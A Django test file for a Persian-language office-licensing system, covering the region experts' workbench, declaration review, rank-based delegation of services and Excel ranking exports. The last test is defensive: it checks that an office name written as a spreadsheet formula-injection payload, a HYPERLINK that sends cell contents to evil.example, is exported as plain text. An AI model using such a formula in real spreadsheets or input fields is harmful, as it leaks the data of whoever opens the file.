"""The region experts' workbench and review screen, delegation by rank and experts, rankings + Excel."""

import datetime as dt
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Membership, Role
from catalogue.tests.factories import make_service
from counters import selectors, services
from counters.models import Declaration, Discipline
from counters.tests.conftest import fill
from counters.tests.factories import DelegationRuleFactory
from orgs.models import Region


def test_workbench_lists_the_regions_files_by_deadline(client, make_office, make_expert, reference):
    north = Region.objects.get(code="north")
    expert = make_expert(north)
    files = []
    for province in ("IR-30", "IR-23"):  # Alborz and Tehran: both north
        office = make_office(province=province)
        declaration = fill(services.start_declaration(office=office, actor=office.licence.holder))
        files.append(
            services.confirm(
                declaration=declaration,
                actor=office.licence.holder,
                agree=True,
                now=timezone.now() - dt.timedelta(days=len(files) * 3),
            )
        )
    elsewhere = make_office(province="IR-07")  # Fars: south
    fill(services.start_declaration(office=elsewhere, actor=elsewhere.licence.holder))
    draft_office = make_office()
    services.start_declaration(office=draft_office, actor=draft_office.licence.holder)  # a draft: not listed

    client.force_login(expert)
    response = client.get(reverse("counters:workbench"))
    assert response.status_code == 200
    listed = [d.pk for d in response.context["files"]]
    assert listed == [files[1].pk, files[0].pk]  # the earlier deadline first
    assert "۰۲۱" in response.content.decode()  # the region's phone is shown
    response = client.get(reverse("counters:workbench"), {"state": "returned"})
    assert list(response.context["files"]) == []
    assert "۱۷ روز مانده" in client.get(reverse("counters:workbench")).content.decode()


def test_workbench_shows_only_overdue_files_on_request(client, make_office, expert):
    office = make_office()
    holder = office.licence.holder
    late = fill(services.start_declaration(office=office, actor=holder))
    services.confirm(declaration=late, actor=holder, agree=True, now=timezone.now() - dt.timedelta(days=22))
    client.force_login(expert)
    response = client.get(reverse("counters:workbench"), {"overdue": "1"})
    assert [d.pk for d in response.context["files"]] == [late.pk]
    assert "۲ روز گذشته" in response.content.decode()


def test_workbench_is_for_region_experts_only(client, holder):
    client.force_login(holder)
    response = client.get(reverse("counters:workbench"))
    assert response.status_code == 403
    assert "فقط برای کارشناسان منطقه" in response.content.decode()


def test_review_screen_returns_with_notes_per_section_and_approves(client, submitted, expert, holder):
    client.force_login(expert)
    url = reverse("counters:review", args=[submitted.pk])
    html = client.get(url).content.decode()
    for section in ("section-documents", "section-legal", "section-staff", "section-location"):
        assert section in html
    assert reverse("counters:document", args=[submitted.pk, submitted.documents.first().pk]) in html
    response = client.post(url, {"action": "return", "note_staff": "تاریخ تولد کارمند دوم را بررسی کنید."})
    assert response.status_code == 302
    submitted.refresh_from_db()
    assert submitted.state == Declaration.State.RETURNED
    # The holder sees the note on the step it concerns.
    client.force_login(holder)
    html = client.get(reverse("counters:step", args=[submitted.pk, "staff"])).content.decode()
    assert "تاریخ تولد کارمند دوم را بررسی کنید." in html
    services.confirm(declaration=submitted, actor=holder, agree=True)
    client.force_login(expert)
    response = client.post(url, {"action": "approve", "recipients_score": "۹۰", "association_score": "70"})
    assert response.status_code == 302
    submitted.refresh_from_db()
    assert submitted.state == Declaration.State.APPROVED and submitted.recipients_score == 90


def test_return_without_any_note_is_refused(client, submitted, expert):
    client.force_login(expert)
    response = client.post(reverse("counters:review", args=[submitted.pk]), {"action": "return"})
    assert response.status_code == 200
    assert "دست‌کم برای یک بخش یادداشت بنویسید" in response.content.decode()
    assert Declaration.objects.get(pk=submitted.pk).state == Declaration.State.SUBMITTED


def test_answering_an_objection_from_the_review_screen(client, submitted, expert, holder):
    services.approve(declaration=submitted, actor=expert, recipients_score=50, association_score=50)
    client.force_login(holder)
    client.post(reverse("counters:objection", args=[submitted.pk]), {"text": "امتیاز انجمن کم است."})
    client.force_login(expert)
    url = reverse("counters:review", args=[submitted.pk])
    assert "امتیاز انجمن کم است." in client.get(url).content.decode()
    client.post(url, {"action": "answer", "answer": "بازبینی شد.", "corrected_score": "65"})
    submitted.refresh_from_db()
    assert submitted.state == Declaration.State.FINAL and submitted.final_score == 65


def test_drafts_are_not_open_to_the_region(client, declaration, expert):
    client.force_login(expert)
    assert client.get(reverse("counters:review", args=[declaration.pk])).status_code == 403


# --- delegation (P2) ---------------------------------------------------------------------------------


@pytest.fixture
def rules(reference):
    chemistry = Discipline.objects.get(code="chemistry")
    physics = Discipline.objects.get(code="physics")
    plain = make_service(title="صدور گواهی ساده", channel_counter=True)
    top_only = make_service(title="خدمت ویژه رتبه یک", channel_counter=True)
    chemical = make_service(title="آزمون شیمیایی", channel_counter=True)
    physical = make_service(title="آزمون فیزیکی", channel_counter=True)
    online_only = make_service(title="خدمت فقط برخط", channel_counter=False)
    DelegationRuleFactory(service=plain, max_rank=4)
    DelegationRuleFactory(service=top_only, max_rank=1)
    DelegationRuleFactory(service=chemical, max_rank=3, discipline=chemistry)
    DelegationRuleFactory(service=physical, max_rank=3, discipline=physics)
    DelegationRuleFactory(service=online_only, max_rank=4)


def test_services_follow_the_rank_and_the_qualified_experts(rules, submitted, expert, client, holder):
    office = submitted.office
    assert selectors.delegated_services(office) == []  # no approved rank yet
    services.approve(declaration=submitted, actor=expert, recipients_score=90, association_score=70)  # rank 2
    titles = [rule.service.title for rule in selectors.delegated_services(office)]
    assert titles == ["آزمون شیمیایی", "صدور گواهی ساده"]  # chemistry expert on staff, no physicist
    withheld = dict((rule.service.title, why) for rule, why in selectors.withheld_services(office))
    assert "رتبه ۱" in withheld["خدمت ویژه رتبه یک"]
    assert "فیزیک" in withheld["آزمون فیزیکی"]
    client.force_login(holder)
    html = client.get(reverse("counters:home")).content.decode()
    assert "آزمون شیمیایی" in html and "کارشناس صلاحیت‌دار فیزیک" in html


# --- rankings ---------------------------------------------------------------------------------------


@pytest.fixture
def ranked(make_office, make_expert, reference):
    made = []
    for province, score in (("IR-30", 90), ("IR-23", 40), ("IR-07", 70)):
        office = make_office(province=province)
        holder = office.licence.holder
        declaration = fill(services.start_declaration(office=office, actor=holder))
        declaration = services.confirm(declaration=declaration, actor=holder, agree=True)
        expert = make_expert(office.province.region)
        made.append(
            services.approve(
                declaration=declaration, actor=expert, recipients_score=score, association_score=score
            )
        )
    return made


def test_rankings_per_region_and_province_with_excel(client, ranked, make_user):
    manager = make_user(role=Role.HQ_PLANNER, scope={"org_unit": _hq_unit()})
    client.force_login(manager)
    response = client.get(reverse("counters:rankings"))
    assert [d.pk for d in response.context["rows"]] == [ranked[0].pk, ranked[2].pk, ranked[1].pk]
    north = Region.objects.get(code="north")
    response = client.get(reverse("counters:rankings"), {"region": north.pk})
    assert [d.pk for d in response.context["rows"]] == [ranked[0].pk, ranked[1].pk]
    province = ranked[2].office.province
    response = client.get(reverse("counters:rankings"), {"province": province.pk, "format": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("ردیف", "کد دفتر", "نام دفتر")
    assert len(rows) == 2
    assert rows[1][1] == ranked[2].office.code and rows[1][4] == "فارس"
    assert rows[1][7] == float(ranked[2].final_score)
    assert sheet.sheet_view.rightToLeft


def test_rankings_are_not_for_licence_holders(client, holder):
    client.force_login(holder)
    assert client.get(reverse("counters:rankings")).status_code == 403


def _hq_unit():
    from orgs.models import OrgUnit

    return OrgUnit.objects.get(code="HQ-PLANNING")


def test_region_membership_needs_a_region():
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        Membership(role=Role.REGION_EXPERT).clean()


def test_an_office_name_typed_as_a_formula_stays_text_in_the_rankings_workbook(client, ranked, make_user):
    office = ranked[0].office
    office.name = '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")'
    office.save()
    client.force_login(make_user(role=Role.HQ_PLANNER, scope={"org_unit": _hq_unit()}))
    response = client.get(reverse("counters:rankings"), {"format": "xlsx"})
    sheet = load_workbook(BytesIO(response.content)).active
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == office.code)
    assert cell.data_type == "s" and cell.value == "'" + office.name
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
